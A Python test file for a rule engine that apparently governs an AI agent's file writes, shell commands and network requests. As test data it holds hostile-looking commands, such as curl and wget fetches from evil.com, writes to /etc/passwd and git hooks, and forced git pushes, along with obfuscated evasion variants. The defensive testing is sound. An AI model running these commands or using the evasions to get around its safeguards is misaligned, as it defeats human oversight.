"""The shipped rules, all switched on: what they stop, and that ordinary work goes on.

The second half names what engines that compare texts get wrong; each line fails on such an engine.
"""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from coven.governance.actions import Bash, Custom, FilesystemWrite, NetworkRequest, Op, ProcessSpawn
from coven.governance.bash import analyse
from coven.governance.evaluate import decide
from coven.governance.policy import PolicyCorrupt, build_policy
from coven.governance.rules import Rule
from coven.governance.seeds import SEEDS
from coven.governance.shapes import Templates
from coven.governance.world import Origin, Scope, World, no_machine

WS = "/srv/coven/ws"
TEMPLATES = Templates.of(
    workspace=WS,
    state_dir="/srv/coven",
    github_hosts=["github.com", "api.github.com"],
    model_hosts=["model.example.com"],
    programs=["/usr/bin/python3"],
)
TOOL = Scope(Origin.TOOL, cwd=f"{WS}/task", workspace=f"{WS}/task")
ADAPTER = Scope(Origin.ADAPTER, workspace=WS)


def world(free_gib: int | None = 100) -> World:
    def free(_: str) -> int:
        if free_gib is None:
            raise OSError("no such volume")
        return free_gib * 2**30

    return dataclasses.replace(
        no_machine(analyse), free_bytes=free, addresses=lambda _: ("140.82.112.3",)
    )


def judged(action: Any, scope: Scope = TOOL, ids: str = "", free_gib: int | None = 100) -> str:
    rules = [Rule.read({**seed.row(), "enabled": 1}) for seed in SEEDS]
    policy = build_policy(
        [rule for rule in rules if not ids or rule.id in ids.split()], templates=TEMPLATES
    )
    decision = decide(lambda: policy, action, scope, world(free_gib))
    return decision.rule_id or decision.verdict.value


STOPPED = [
    ("R001", FilesystemWrite("/tmp/x"), TOOL),
    ("R002", FilesystemWrite("/var/tmp/x"), TOOL),
    ("R003", FilesystemWrite("/private/tmp/x"), TOOL),
    ("R101", FilesystemWrite("/etc/passwd"), TOOL),
    ("R101", Bash("echo x > ../../../../etc/x"), TOOL),
    ("R102", FilesystemWrite(".git/hooks/pre-commit"), TOOL),
    ("R102", FilesystemWrite("sub/.git/config"), TOOL),
    ("R103", FilesystemWrite(".github/workflows/ci.yml"), TOOL),
    ("R104", NetworkRequest("evil.com", "https", method="GET", path="/"), TOOL),
    ("R104", Bash("curl https://evil.com/x"), TOOL),
    (
        "R106",
        NetworkRequest("api.github.com", "https", None, "DELETE", "/repos/o/r/git/refs/heads/x"),
        ADAPTER,
    ),
    ("R107", ProcessSpawn("curl"), ADAPTER),
    ("R107", ProcessSpawn("sh", ("-c", "true")), ADAPTER),
    ("R108", Bash("git push --force origin main"), TOOL),
    ("R108", Bash("git push origin +main"), TOOL),
    ("R108", Bash("git -C x push -f"), TOOL),
    ("R109", Bash("$X y"), TOOL),
    ("R110", Bash("python3 -c 'print(1)'"), TOOL),
    ("R111", Custom("tool_call", {"tool_name": "Unknown", "input": {}}), TOOL),
]


@pytest.mark.parametrize(
    ("rule", "action", "scope"),
    STOPPED,
    ids=lambda value: str(value)[:60],
)
def test_what_a_shipped_rule_is_for(rule: str, action: Any, scope: Scope) -> None:
    assert judged(action, scope) == rule


@pytest.mark.parametrize(
    ("action", "scope"),
    [
        (FilesystemWrite("src/a.py", Op.MODIFY), TOOL),
        (FilesystemWrite(f"{WS}/task", Op.CREATE), ADAPTER),
        (FilesystemWrite(f"{WS}/task", Op.DELETE), ADAPTER),
        (NetworkRequest("api.github.com", "https", None, "POST", "/repos/o/r/pulls"), ADAPTER),
        (NetworkRequest("model.example.com", "https", None, "POST", "/v1"), ADAPTER),
        (ProcessSpawn("git", ("fetch", "origin")), ADAPTER),
        (ProcessSpawn("/usr/bin/python3", ("-m", "x")), ADAPTER),
        (Bash("git status && git diff | head -5"), TOOL),
        (Bash("ls -la > out.txt 2>/dev/null"), TOOL),
        (Bash("git push origin familiar/fix-1"), TOOL),
        (Bash("cargo build"), TOOL),
        (Custom("memory_write", {"scope": "repo"}), ADAPTER),
    ],
    ids=lambda value: str(value)[:60],
)
def test_ordinary_work_goes_on(action: Any, scope: Scope) -> None:
    assert judged(action, scope) == "allow"


@pytest.mark.parametrize(
    ("host", "rule"),
    [("models.example.com", "R105"), ("169.254.169.254", "R105"), ("api.github.com", None)],
)
def test_only_the_configured_github_may_live_on_a_private_address(
    host: str, rule: str | None
) -> None:
    rules = [Rule.read({**seed.row(), "enabled": 1}) for seed in SEEDS if seed.id == "R105"]
    inside = dataclasses.replace(world(), addresses=lambda _: ("10.0.0.5",))
    policy = build_policy(rules, templates=TEMPLATES)
    decision = decide(lambda: policy, NetworkRequest(host, "https"), ADAPTER, inside)
    assert decision.rule_id == rule


@pytest.mark.parametrize(("free", "result"), [(19, "R004"), (20, "allow"), (None, "R004")])
def test_cargo_needs_a_disk_with_room(free: int | None, result: str) -> None:
    for action in (ProcessSpawn("/usr/bin/cargo"), Bash("cd x && cargo build")):
        assert judged(action, TOOL, "R004", free) == result


TEXT_ENGINES_MISS = [
    ("a path with two slashes", "R001", FilesystemWrite("//tmp/x")),
    ("a path through dots", "R001", FilesystemWrite("/var/../tmp/x")),
    ("a relative path", "R001", FilesystemWrite("../../../../tmp/x")),
    ("a write inside a command", "R001", Bash("echo x > /tmp/y")),
    ("a write after cd inside a command", "R001", Bash("cd /tmp && echo x > y")),
    ("a host in capitals with a root dot and a port", "R104", NetworkRequest("EVIL.com.:443")),
    ("an allowed host as a prefix", "R104", NetworkRequest("github.com.evil.com")),
    ("a request inside a command", "R104", Bash("wget -q http://evil.com/x")),
    ("a program by its full path", "R107", ProcessSpawn("/opt/curl")),
    ("a program in a wrapper", "R107", ProcessSpawn("env", ("curl",))),
    ("quotes inside words", "R108", Bash("g''it pu\\sh \"--for\"ce")),
    ("a line continuation", "R108", Bash("git \\\n push --force")),
    ("a shell in a shell", "R108", Bash("sh -c 'git push --force'")),
    ("options before the command", "R108", Bash("git --no-pager -c a.b=c push --force")),
    ("bundled letters", "R108", Bash("git push -uf origin main")),
]


@pytest.mark.parametrize(
    ("rule", "action"),
    [row[1:] for row in TEXT_ENGINES_MISS],
    ids=[r[0] for r in TEXT_ENGINES_MISS],
)
def test_what_engines_that_compare_texts_miss(rule: str, action: Any) -> None:
    scope = ADAPTER if rule == "R107" else TOOL
    assert judged(action, scope, rule) == rule


def test_a_corrupt_rule_stops_everything_instead_of_being_skipped() -> None:
    rows = [{**seed.row(), "enabled": 1} for seed in SEEDS]
    rows[0] = {**rows[0], "matcher": '{"glob":"tmp/**"}'}

    def load() -> Any:
        return build_policy([Rule.read(row) for row in rows], templates=TEMPLATES)

    with pytest.raises(PolicyCorrupt, match="R001"):
        load()
    decision = decide(load, Custom("harmless"), TOOL, world())
    assert (decision.verdict, decision.rule_id) == ("refuse", "governance:policy_tampered")
